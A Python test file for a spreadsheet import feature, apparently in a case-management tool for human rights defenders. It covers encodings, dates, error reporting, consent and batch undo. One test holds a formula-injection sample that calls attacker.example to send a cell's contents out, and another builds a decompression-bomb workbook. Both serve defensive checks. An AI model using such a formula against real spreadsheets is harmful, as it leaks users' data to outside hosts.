"""Spreadsheet import (issue 20) through the door, with files as offices really have them.

What a caseworker relies on: a file comes in whole or not at all; every error names the row, the
column and the value; text arrives exactly as typed (accents, quotes, formulas as text); dates keep
their precision and slashed dates are never guessed; nothing is ever merged silently.
"""

from __future__ import annotations

import csv
import tracemalloc
from pathlib import Path

import pytest

from hrd_desk.errors import RejectedInput
from hrd_desk.model.dates import DAY_FIRST, MONTH_FIRST
from hrd_desk.services.casework import RecordFilter
from hrd_desk.services.desk import Desk
from hrd_desk.services.session import Session
from hrd_desk.services.sheet_files import EncodingNotConfirmed, UnreadableSheet
from hrd_desk.services.sheet_import import (
    ImportCancelled,
    ImportOptions,
    SheetRefused,
)
from hrd_desk.services.sheet_mapping import load_mapping
from hrd_desk.store.dbapi import transaction
from sheet_support import (
    excel_windows_csv,
    formula_xlsx,
    google_sheets_csv,
    libreoffice_xlsx,
    sheet_with_empty_rows,
)
from vault_support import table_dump


@pytest.fixture
def desk(session: Session) -> Desk:
    d = Desk.on(session)
    d.records.add("defender", {"name": "Amina Diallo", "codename": "Heron", "country": "KE"})
    d.records.add("defender", {"name": "Bola Tinubu-Ade", "country": "NG"})
    return d


def incidents(desk: Desk) -> dict[str, dict[str, object]]:
    """Incidents by description."""
    return {str(s.get("description")): s.fields for s in desk.records.list("incident")}


def refused(desk: Desk, path: Path, options: ImportOptions) -> SheetRefused:
    before = table_dump(desk._current_session().conn)
    with pytest.raises(SheetRefused) as caught:
        desk.sheets.run(path, options)
    assert table_dump(desk._current_session().conn) == before, "a refused file changed the vault"
    return caught.value


def test_excel_windows_1252_semicolons_is_confirmed_then_imported_exactly(
        desk: Desk, tmp_path: Path) -> None:
    path = excel_windows_csv(tmp_path / "menaces.csv")
    with pytest.raises(EncodingNotConfirmed):  # never assumed
        desk.sheets.preview(path, ImportOptions("incident"))
    options = ImportOptions("incident", encoding="windows-1252")
    preview = desk.sheets.preview(path, options)
    assert preview.file.delimiter == ";"
    assert preview.rows[0][3] == "Suivi jusqu'à l'école; menacé — «on sait où tu vis»"
    assert preview.date_order == DAY_FIRST and not preview.problems
    result = desk.sheets.run(path, options)
    assert result.created == 3
    got = incidents(desk)
    school = got["Suivi jusqu'à l'école; menacé — «on sait où tu vis»"]
    assert school["occurred"] == "2024-03-15" and school["category"] == "physical"
    assert school["severity"] == 3 and school["country"] == "KE"
    assert school["location"] == "Nairobi, près du café"
    assert got["Compte piraté: mot de passe changé à 3h"]["occurred"] == "2024-04-02"
    assert got["Article diffamatoire (journal « Le Matin »)"]["occurred"] == "2023"  # a year
    heron = desk.records.list("defender", None)
    assert {tuple(s.get("defenders") or []) for s in desk.records.list("incident")} == {
        (next(d.id for d in heron if d.get("codename") == "Heron"),)}


def test_google_sheets_export_reads_month_first_lists_and_multiline_cells(
        desk: Desk, tmp_path: Path) -> None:
    path = google_sheets_csv(tmp_path / "Threat log - Sheet1.csv")
    result = desk.sheets.run(path, ImportOptions("incident"))
    assert result.created == 3 and result.date_order == MONTH_FIRST  # 3/15/2024 shows it
    got = incidents(desk)
    checkpoint = got['Stopped at a checkpoint, told "we know you"']
    assert checkpoint["occurred"] == "2024-03-15"
    assert checkpoint["reported_to"] == ["police", "embassy"]
    summons = got["Summons to court\nsecond line of the note"]
    assert summons["occurred"] == "2024-04-03" and summons["status"] == "monitoring"
    assert got["SMS threats, several"]["occurred"] == "2024-03"


def test_libreoffice_xlsx_with_merged_title_and_headings_and_serial_dates(
        desk: Desk, tmp_path: Path) -> None:
    path = libreoffice_xlsx(tmp_path / "log.xlsx")
    preview = desk.sheets.preview(path, ImportOptions("incident"))
    assert preview.layout.heading_row == 2  # the merged title row above is not the headings
    result = desk.sheets.run(path, ImportOptions("incident"))
    assert result.created == 4
    got = incidents(desk)
    assert got["Followed home"]["occurred"] == "2024-03-15"
    assert got["Phishing mail"]["occurred"] == "2024-03-15"  # serial 45366
    assert got["Relative questioned"]["occurred"] == "2024-02-01T14:30"
    assert got["Relative questioned"]["severity"] == 4
    assert got["Court summons"]["occurred"] == "2023-11-30"


def test_a_value_under_a_merged_heading_is_an_error_naming_the_cell(
        desk: Desk, tmp_path: Path) -> None:
    path = libreoffice_xlsx(tmp_path / "log.xlsx", data_under_merge=True)
    error = refused(desk, path, ImportOptions("incident"))
    [only] = error.result.errors
    assert (only.row, only.column, only.value) == (6, "E", "extra")
    assert "column E" in only.message


@pytest.mark.timeout(600)  # a big file, on a shared machine
def test_one_bad_row_in_ten_thousand_refuses_the_file_and_names_the_row(
        desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["Defender", "Primary category", "When it happened", "Description"])
        for i in range(10_000):
            category = "physcal" if i == 7_776 else "physical"
            out.writerow(["Heron", category, "2024-01-02", f"row {i}"])
    error = refused(desk, path, ImportOptions("incident"))
    assert error.result.created == 0 and error.result.error_count == 1
    [only] = error.result.errors
    assert (only.row, only.column, only.value) == (7_778, "B (Primary category)", "physcal")
    assert "physical" in only.message  # the closest known value
    assert desk.records.count("incident") == 0


def test_every_error_is_listed_with_row_column_and_value(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "errors.csv"
    path.write_text("Defender,Primary category,When it happened,Description,Country\n"
                    "Nobody,physical,2024,a,KE\n"
                    "Heron,physcal,2024,b,Narnia\n"
                    "Heron,physical,2099-01-01,c,KE\n"
                    "Heron,physical,31/02/2024,d,KE\n", encoding="utf-8")
    error = refused(desk, path, ImportOptions("incident", date_order=DAY_FIRST))
    lines = [e.line() for e in error.result.errors]
    assert lines[0] == ("row 2, column A (Defender): no defender has this codename or name "
                        "[Nobody]")
    assert lines[1].startswith("row 3, column B (Primary category): not a known primary "
                               "category (closest: physical")
    assert lines[2].startswith("row 3, column E (Country): not a known country")
    assert lines[3].startswith("row 4, column C (When it happened): ") and "future" in lines[3]
    assert lines[4].startswith("row 5, column C") and "does not exist" in lines[4]
    assert len(lines) == 5


def test_ambiguous_slashed_dates_are_asked_never_guessed(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "dates.csv"
    path.write_text("Defender;Primary category;When it happened;Description\n"
                    "Heron;other;03/04/2024;a\n", encoding="utf-8")
    error = refused(desk, path, ImportOptions("incident"))
    assert "--day-first or --month-first" in error.result.errors[0].message
    desk.sheets.run(path, ImportOptions("incident", date_order=DAY_FIRST))
    assert incidents(desk)["a"]["occurred"] == "2024-04-03"
    mixed = tmp_path / "mixed.csv"
    mixed.write_text("Defender;Primary category;When it happened;Description\n"
                     "Heron;other;15/03/2024;b\nHeron;other;03/15/2024;c\n", encoding="utf-8")
    error = refused(desk, mixed, ImportOptions("incident"))
    assert [e.row for e in error.result.errors][:2] == [2, 3]


@pytest.mark.parametrize(("cell", "stored"), [
    ("2024", "2024"), ("2024-03", "2024-03"), ("15 March 2024", "2024-03-15"),
    ("March 15, 2024", "2024-03-15"), ("Mar 2024", "2024-03"), ("15-Mar-2024", "2024-03-15"),
    ("15 mars 2024", "2024-03-15"), ("2024-03-15 09:05:00", "2024-03-15T09:05"),
    ("2023..2024", "2023..2024"), ("March - May 2024", "2024-03..2024-05"),
    ("2023 – 2024", "2023..2024"), ("45366", "2024-03-15"), ("15.03.2024", "2024-03-15"),
    ("03/2024", "2024-03"),
])
def test_date_forms_keep_their_precision(desk: Desk, tmp_path: Path, cell: str,
                                         stored: str) -> None:
    path = tmp_path / "one.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["Defender", "Primary category", "When it happened",
                                       "Description"], ["Heron", "other", cell, "x"]])
    desk.sheets.run(path, ImportOptions("incident"))
    assert incidents(desk)["x"]["occurred"] == stored


def test_a_two_digit_year_is_refused(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "short.csv"
    path.write_text("Defender,Primary category,When it happened,Description\n"
                    "Heron,other,15/03/24,x\n", encoding="utf-8")
    error = refused(desk, path, ImportOptions("incident", date_order=DAY_FIRST))
    assert "year in full" in error.result.errors[0].message


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "utf-16-le"])
def test_unicode_encodings_with_and_without_a_mark(desk: Desk, tmp_path: Path,
                                                   encoding: str) -> None:
    path = tmp_path / "u.csv"
    path.write_bytes("Defender\tPrimary category\tWhen it happened\tDescription\r\n"
                     "Heron\tdigital\t2024-01-02\tتهديد عبر الهاتف — ملاحظة\r\n"
                     .encode(encoding))
    desk.sheets.run(path, ImportOptions("incident"))
    assert "تهديد عبر الهاتف — ملاحظة" in incidents(desk)


def test_headings_and_values_match_case_and_accent_insensitively(desk: Desk,
                                                                 tmp_path: Path) -> None:
    path = tmp_path / "h.csv"
    path.write_text("DÉFENDER ,primary_category,When It Happened,description,Perpetrator type\n"
                    "HERON,Obstruction through laws and courts,2024,x,Police\n",
                    encoding="utf-8")
    desk.sheets.run(path, ImportOptions("incident"))
    got = incidents(desk)["x"]
    assert got["category"] == "legal" and got["perpetrator"] == "police"


def test_a_mapping_file_maps_other_headings_and_words(desk: Desk, tmp_path: Path) -> None:
    mapping = tmp_path / "map.toml"
    mapping.write_text(
        '[columns]\n"Nom de code" = "defenders"\n"Type" = "category"\n"Date" = "occurred"\n'
        '"Récit" = "description"\n"N° interne" = "ignore"\n\n'
        '[values.category]\n"Harcèlement" = "physical"\n"Diffamation" = "defamation"\n',
        encoding="utf-8")
    path = tmp_path / "fr.csv"
    path.write_text("Nom de code;Type;Date;Récit;N° interne\n"
                    "Heron;harcelement;2024-05;a;17\nHeron;Diffamation;2024;b;18\n",
                    encoding="utf-8")
    options = ImportOptions("incident", mapping=load_mapping("incident", mapping))
    assert desk.sheets.run(path, options).created == 2
    assert incidents(desk)["a"]["category"] == "physical"
    unmapped = refused(desk, path, ImportOptions("incident"))
    assert any(e.column == "A (Nom de code)" for e in unmapped.result.errors)


def test_defenders_linked_by_codename_or_name_and_several_per_cell(desk: Desk,
                                                                   tmp_path: Path) -> None:
    path = tmp_path / "l.csv"
    path.write_text("Defenders,Primary category,When it happened,Description\n"
                    "heron; Bola Tinubu-Ade,other,2024,both\n", encoding="utf-8")
    desk.sheets.run(path, ImportOptions("incident"))
    assert len(incidents(desk)["both"]["defenders"]) == 2  # type: ignore[arg-type]
    desk.records.add("defender", {"name": "Bola Tinubu-Ade", "country": "GH"})
    path.write_text("Defenders,Primary category,When it happened,Description\n"
                    "Heron,other,2024,ok\nBola Tinubu-Ade,other,2024,which\n",
                    encoding="utf-8")
    error = refused(desk, path, ImportOptions("incident"))
    [only] = error.result.errors
    assert only.row == 3 and "2 defenders" in only.message


def test_related_people_and_cases_name_their_defender(desk: Desk, tmp_path: Path) -> None:
    related = tmp_path / "r.csv"
    related.write_text("Defender,Name,Relationship,Contact details\n"
                       "Heron,Yusuf,Child,\nHeron,Maryam,partner,+254 700 000\n",
                       encoding="utf-8")
    dry = desk.sheets.run(related, ImportOptions("related"), dry_run=True)
    assert dry.sample[1] == (3, {"defender": "Heron", "name": "(sensitive)",
                                 "relationship": "partner", "contact": "(sensitive)"})
    assert desk.sheets.run(related, ImportOptions("related")).created == 2
    cases = tmp_path / "c.csv"
    cases.write_text("Defender,Programme,Title,Opened,Status\n"
                     "Heron,Relocation,Move to Kampala,2024-02,Accepted\n", encoding="utf-8")
    assert desk.sheets.run(cases, ImportOptions("case")).created == 1
    incident = tmp_path / "i.csv"
    incident.write_text("Defender,Primary category,When it happened,Description,"
                        "Targeted related people,Case\n"
                        "Heron,family,2024,x,Yusuf;maryam,Move to Kampala\n", encoding="utf-8")
    desk.sheets.run(incident, ImportOptions("incident"))
    got = incidents(desk)["x"]
    assert len(got["targets"]) == 2 and got["case"]  # type: ignore[arg-type]


def test_defenders_get_the_consent_the_file_states_or_not_recorded(desk: Desk,
                                                                   tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text("Name,Codename,Country,Consent,Languages\n"
                    "Chen Wei,Kite,China,Colleagues,zh;en\nDina Haddad,,Lebanon,,ar\n",
                    encoding="utf-8")
    # consent that allows sharing needs when and how it was given: the error names the field
    # the file has no column for
    error = refused(desk, path, ImportOptions("defender"))
    assert [(e.row, e.column) for e in error.result.errors] == [(2, "")]
    assert error.result.errors[0].message.startswith("Consent given on: is required")
    path.write_text("Name,Codename,Country,Consent,Consent given on,Consent given how,Languages\n"
                    "Chen Wei,Kite,China,Colleagues,2024-05-02,Written,zh;en\n"
                    "Dina Haddad,,Lebanon,,,,ar\n", encoding="utf-8")
    desk.sheets.run(path, ImportOptions("defender"))
    people = {s.get("name"): s.fields for s in desk.records.list("defender")}
    assert people["Chen Wei"]["consent"] == "colleagues"
    assert people["Chen Wei"]["consent_how"] == "written"
    assert people["Chen Wei"]["languages"] == ["zh", "en"]
    assert people["Chen Wei"]["country"] == "CN"
    assert people["Dina Haddad"]["consent"] == "not-recorded"


def test_duplicates_are_flagged_and_skipped_only_when_asked(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text("Name,Codename,Country\nAmina Diallo,,Kenya\nNew Person,,Kenya\n",
                    encoding="utf-8")
    dry = desk.sheets.run(path, ImportOptions("defender"), dry_run=True)
    assert [d.row for d in dry.duplicates] == [2] and dry.created == 2
    assert desk.records.count("defender") == 2  # the dry run changed nothing
    result = desk.sheets.run(path, ImportOptions("defender", skip_duplicates=True))
    assert result.created == 1 and result.skipped == 1
    assert desk.records.count("defender") == 3


def test_codenames_must_stay_unique_within_the_file_too(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text("Name,Codename\nOne,Falcon\nTwo,falcon\n", encoding="utf-8")
    error = refused(desk, path, ImportOptions("defender"))
    assert [(e.row, e.column) for e in error.result.errors] == [(3, "B (Codename)")]


def test_formulas_are_text_never_evaluated(desk: Desk, tmp_path: Path) -> None:
    desk.sheets.run(formula_xlsx(tmp_path / "f.xlsx"), ImportOptions("incident"))
    [got] = incidents(desk).values()
    assert got["description"] == '=HYPERLINK("http://attacker.example/x?"&A1,"click me")'
    assert got["location"] == "=1+1"
    path = tmp_path / "f.csv"
    path.write_text('Defender,Primary category,When it happened,Description\n'
                    'Heron,other,2024,"=HYPERLINK(""http://x"",""y"")"\n', encoding="utf-8")
    desk.sheets.run(path, ImportOptions("incident"))
    assert '=HYPERLINK("http://x","y")' in incidents(desk)


def test_one_mib_cells_fit_and_a_byte_more_is_an_error(desk: Desk, tmp_path: Path) -> None:
    mib = 1024 * 1024
    path = tmp_path / "big-cells.csv"
    path.write_text("Defender,Primary category,When it happened,Description\n"
                    f"Heron,other,2024,{'a' * mib}\n", encoding="utf-8")
    assert desk.sheets.run(path, ImportOptions("incident")).created == 1
    path.write_text("Defender,Primary category,When it happened,Description\n"
                    f"Heron,other,2024,{'b' * (mib + 1)}\n", encoding="utf-8")
    error = refused(desk, path, ImportOptions("incident"))
    assert (error.result.errors[0].row, error.result.errors[0].column) == (2, "D (Description)")
    path.write_text("Defender,Primary category,When it happened,Description\n"
                    f"Heron,other,2024,{'c' * (3 * mib)}\n", encoding="utf-8")
    with pytest.raises(UnreadableSheet, match="row 2"):
        desk.sheets.run(path, ImportOptions("incident"))


@pytest.mark.timeout(600)  # a big file, on a shared machine
def test_a_million_empty_rows_in_a_csv_cost_no_memory(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "empty.csv"
    with path.open("w", encoding="utf-8") as handle:
        handle.write("Defender;Primary category;When it happened;Description\n"
                     "Heron;other;2024;first\n")
        handle.write(";;;\n" * 1_000_000)
        handle.write("Heron;other;2023;last\n")
    tracemalloc.start()
    try:
        result = desk.sheets.run(path, ImportOptions("incident"))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert result.created == 2 and set(incidents(desk)) == {"first", "last"}
    assert peak < 32 * 1024 * 1024, f"peak {peak / 2**20:.0f} MiB for a million empty rows"


@pytest.mark.timeout(600)  # a big file, on a shared machine
def test_a_million_empty_rows_in_a_workbook(desk: Desk, tmp_path: Path) -> None:
    path = sheet_with_empty_rows(tmp_path / "empty.xlsx", 1_000_000)
    result = desk.sheets.run(path, ImportOptions("incident"))
    assert result.created == 2 and set(incidents(desk)) == {"first", "last"}


def test_cancel_leaves_nothing(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        out = csv.writer(handle)
        out.writerow(["Defender", "Primary category", "When it happened", "Description"])
        out.writerows(["Heron", "other", "2024", f"r{i}"] for i in range(500))
    seen: list[int] = []
    before = table_dump(desk._current_session().conn)
    with pytest.raises(ImportCancelled):
        desk.sheets.run(path, ImportOptions("incident"), progress=seen.append,
                        cancelled=lambda: len(seen) >= 3)
    assert seen[:3] == [50, 100, 150]
    assert table_dump(desk._current_session().conn) == before


def test_a_successful_import_is_one_audit_event_per_record_and_one_for_the_file(
        desk: Desk, tmp_path: Path) -> None:
    path = google_sheets_csv(tmp_path / "g.csv")
    desk.sheets.run(path, ImportOptions("incident"))
    actions = [e.action for e in desk.audit.events(limit=10)]
    assert actions[:4] == ["import sheet", "create", "create", "create"]


def test_the_file_is_never_written(desk: Desk, tmp_path: Path) -> None:
    path = excel_windows_csv(tmp_path / "x.csv")
    data, mtime = path.read_bytes(), path.stat().st_mtime_ns
    desk.sheets.run(path, ImportOptions("incident", encoding="windows-1252"))
    assert path.read_bytes() == data and path.stat().st_mtime_ns == mtime


def test_an_import_is_undone_and_redone_as_a_whole(desk: Desk, tmp_path: Path) -> None:
    desk.records.add("incident", {"defenders": [desk.records.list("defender")[0].id],
                                  "category": "other", "occurred": "2020",
                                  "description": "typed by hand"})
    first = desk.sheets.run(google_sheets_csv(tmp_path / "g.csv"), ImportOptions("incident"))
    [batch] = desk.sheets.batches()
    assert (batch.number, batch.kind, batch.created, batch.live) == (first.batch, "incident", 3,
                                                                     3)
    assert desk.sheets.delete_batch(batch.number) == 3
    assert sorted(incidents(desk)) == ["typed by hand"]  # only the import's records went
    assert desk.records.count("incident", RecordFilter(deleted=True)) == 3
    assert desk.sheets.batches()[0].deleted == 3
    assert desk.sheets.restore_batch(batch.number) == 3
    assert len(incidents(desk)) == 4
    with pytest.raises(RejectedInput):
        desk.sheets.delete_batch(batch.number + 1000)


def test_an_ignored_column_without_a_heading_is_left_out(desk: Desk, tmp_path: Path) -> None:
    mapping = tmp_path / "m.toml"
    mapping.write_text('[columns]\n"column E" = "ignore"\n', encoding="utf-8")
    path = tmp_path / "x.csv"
    path.write_text("Defender,Primary category,When it happened,Description,\n"
                    "Heron,other,2024,x,note to self\n", encoding="utf-8")
    refused(desk, path, ImportOptions("incident"))  # a value under no heading: asked
    options = ImportOptions("incident", mapping=load_mapping("incident", mapping))
    assert desk.sheets.run(path, options).created == 1


def test_a_utf8_file_is_not_read_as_windows_1252(desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "u.csv"
    path.write_text("Defender,Primary category,When it happened,Description\n"
                    "Heron,other,2024,café\n", encoding="utf-8")
    with pytest.raises(UnreadableSheet, match="without --encoding"):
        desk.sheets.run(path, ImportOptions("incident", encoding="windows-1252"))


def test_a_workbook_that_unpacks_too_big_is_refused(desk: Desk, tmp_path: Path) -> None:
    import zipfile

    path = libreoffice_xlsx(tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b"<sst>" + b" " * (257 * 1024 * 1024))
    with pytest.raises(UnreadableSheet, match="unpacks to"):
        desk.sheets.preview(path, ImportOptions("incident"))


def test_french_headings_and_values_match_through_the_shipped_catalogue(
        desk: Desk, tmp_path: Path) -> None:
    """A French office's own file: headings and vocabulary cells in French, as the French
    catalogue the app ships words them (an accent or a capital left out, inclusive forms
    written plainly)."""
    path = tmp_path / "défenseurs.csv"
    path.write_text("Nom,Nom de code,Pays,Consentement,Consentement donné le,Mode de consentement\n"
                    "Chen Wei,Kite,CN,Partenaires,2024-05-02,écrit\n"
                    "Dina Haddad,,LB,,,\n", encoding="utf-8")
    desk.sheets.run(path, ImportOptions("defender"))
    people = {s.get("name"): s.fields for s in desk.records.list("defender")}
    assert people["Chen Wei"]["codename"] == "Kite" and people["Chen Wei"]["country"] == "CN"
    assert people["Chen Wei"]["consent"] == "partners"
    assert people["Chen Wei"]["consent_how"] == "written"
    assert people["Dina Haddad"]["consent"] == "not-recorded"
    path = tmp_path / "menaces.csv"
    path.write_text("Défenseurs;Catégorie principale;Date des faits;Sous-type;Gravité;Description\n"
                    "Heron;Menaces contre des proches;2024-03-15;Harcèlement de proches;"
                    "menace directe;Appels à la sœur\n", encoding="utf-8")
    desk.sheets.run(path, ImportOptions("incident"))
    got = incidents(desk)["Appels à la sœur"]
    assert got["category"] == "family" and got["severity"] == 3
    assert got["occurred"] == "2024-03-15"


def test_arabic_headings_and_values_match_with_or_without_the_article(
        desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "حوادث.csv"
    path.write_text("المدافعون,الفئة الرئيسية,تاريخ الوقوع,خطورة,الوصف\n"
                    "Heron,تهديدات لأفراد الأسرة,2024-03-15,تهديد مباشر,مكالمات إلى أخته\n",
                    encoding="utf-8")
    desk.sheets.run(path, ImportOptions("incident"))
    got = incidents(desk)["مكالمات إلى أخته"]
    assert got["category"] == "family" and got["severity"] == 3
    path = tmp_path / "أقارب.csv"
    path.write_text("الاسم,المدافع,صلة القرابة\nسلمى,Heron,محامية\nنور,Heron,المحامي\n",
                    encoding="utf-8")
    error = refused(desk, path, ImportOptions("related"))
    # an unknown word is still refused, naming the closest known values
    assert [(e.row, e.column) for e in error.result.errors] == [(2, "C (صلة القرابة)")]
    assert "lawyer" in error.result.errors[0].message


def test_a_dry_run_inside_another_unit_of_work_is_refused_before_it_writes(
        desk: Desk, tmp_path: Path) -> None:
    """A dry run rolls back by leaving its transaction; inside a caller's unit that would only
    leave the inner unit, and the caller's commit would keep every row it was only to preview."""
    path = google_sheets_csv(tmp_path / "Threat log - Sheet1.csv")
    conn = desk._current_session().conn
    before = table_dump(conn)
    with transaction(conn), pytest.raises(RuntimeError, match="own transaction"):
        desk.sheets.run(path, ImportOptions("incident"), dry_run=True)
    assert table_dump(conn) == before
